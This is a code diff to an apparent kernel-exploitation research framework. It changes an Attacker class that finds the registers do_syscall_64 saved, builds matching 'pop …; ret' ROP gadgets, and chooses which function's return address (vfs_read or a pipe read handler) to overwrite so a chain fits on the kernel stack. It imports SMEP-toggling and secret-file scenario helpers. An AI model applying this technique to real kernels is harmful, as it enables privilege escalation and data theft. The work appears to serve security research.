@@ -15,11 +15,12 @@ from typing import TYPE_CHECKING
 from thinbox.address import page_start
 from thinbox.attacks.bug import Bug, wrong_registers
 from thinbox.attacks.leak import Leak
-from thinbox.attacks.payload import POP_RBX_RBP, POP_RSP, RETURN, Chain, ExploitFailedError
+from thinbox.attacks.payload import POP_RSP, REGISTERS, RETURN, Chain, ExploitFailedError, pops
 from thinbox.attacks.scenario import ATTACKER_AREA, DONE, GO, PRIVATE_FILE, SECRET_BYTES, Scenario
 from thinbox.attacks.smep import set_smep
 from thinbox.guest.agent_channel import Syscall
 from thinbox.harness.process import AREA_BYTES, Argument, GuestProcess, Steps
+from thinbox.kernel.pipe import find_pipe
 from thinbox.machine import cpu as registers
 
 if TYPE_CHECKING:
@@ -27,12 +28,11 @@ if TYPE_CHECKING:
     from thinbox.session.opened import RestoredGuest
 
 Wanted = Callable[[int], bool] | None
-_END_WORDS = 3
-"""What `Attacker.end_chain` appends."""
 _PROT_RW, _PROT_RWX, _PRIVATE_ANON_FIXED = 3, 7, 0x32
 O_RDWR, _O_CREAT_RDWR = 2, 0o102
 
 
+_OVERFLOWED = "vfs_read"
 RUN_BY_READ = (
     "do_syscall_64",
     "x64_sys_call",
@@ -42,6 +42,7 @@ RUN_BY_READ = (
     "vfs_read",
     "rw_verify_area",
     "security_file_permission",
+    "anon_pipe_read",
     "pipe_read",
     "mutex_lock",
     "mutex_unlock",
@@ -55,11 +56,10 @@ RUN_BY_READ = (
 @dataclass(frozen=True, slots=True)
 class Frame:
     """The attacker's kernel stack where a call's handler begins: `slot` holds the address it returns to, and
-    `do_syscall_64` needs RBX and RBP back."""
+    `do_syscall_64` needs those registers back that it saved itself: (encoding, value), in the order it pops them."""
 
     slot: int
-    rbx: int
-    rbp: int
+    registers: tuple[tuple[int, int], ...]
 
 
 class Attacker(GuestProcess):
@@ -117,7 +117,8 @@ class Attacker(GuestProcess):
 
         def look() -> None:
             regs = self._machine.cpu.regs
-            found.append(Frame(regs[registers.RSP], regs[registers.RBX], regs[registers.RBP]))
+            saved = self.text.saved_by("do_syscall_64")
+            found.append(Frame(regs[registers.RSP], tuple((number, regs[number]) for number in saved)))
 
         self._attempt.watch(self.text.function("__x64_sys_getpid"), look)
         yield from self.must("getpid")
@@ -125,12 +126,14 @@ class Attacker(GuestProcess):
 
     def end_chain(self, chain: Chain, frame: Frame, wanted: Wanted = None) -> Chain:
         """Let a chain end as the handler would have: in `do_syscall_64`, its registers as it left them."""
-        return chain.add("pop rbx; pop rbp; ret", self.text.gadget(POP_RBX_RBP, wanted), frame.rbx, frame.rbp)
+        code = pops(number for number, _value in frame.registers)
+        name = "".join(f"pop {REGISTERS[number]}; " for number, _value in frame.registers) + "ret"
+        return chain.add(name, self.text.gadget(code, wanted), *(value for _number, value in frame.registers))
 
     def fill_stack(self, chain: Chain, frame: Frame, slots: int, wanted: Wanted = None) -> bytes:
         """Return the chain, `ret` behind it and registers restored, `slots` words long: what follows it on the stack
         is the handler's own return address. `wanted` chooses among the gadgets for that."""
-        missing = slots - len(chain.words) - _END_WORDS
+        missing = slots - len(chain.words) - 1 - len(frame.registers)
         if missing < 0:
             raise ExploitFailedError(f"the chain is {-missing} words too long for the stack of this kernel's read")
         for _ in range(missing):
@@ -149,6 +152,16 @@ class Attacker(GuestProcess):
         handle = yield from self.filled_pipe(b"x")
         yield from self.must("read", handle[0], self.buffer(8), 1)
         return (frame.slot - found[0]) // 8
+
+    def choose_overflow(self, frame: Frame, words: int) -> Steps:
+        """Return a function whose return address is to be overwritten in a read of a pipe, and how many words lie from
+        there to the handler's: `vfs_read`, or, where that has no room for a chain of `words`, what it calls."""
+        slots = 0
+        for function in (_OVERFLOWED, find_pipe(self.facts).read):
+            slots = yield from self.overflow_slots(function, frame)
+            if slots >= words + 1 + len(frame.registers):
+                return function, slots
+        return _OVERFLOWED, slots
 
     # -- memory and pipes -----------------------------------------------------------------------------
     def own_file(self) -> Steps:
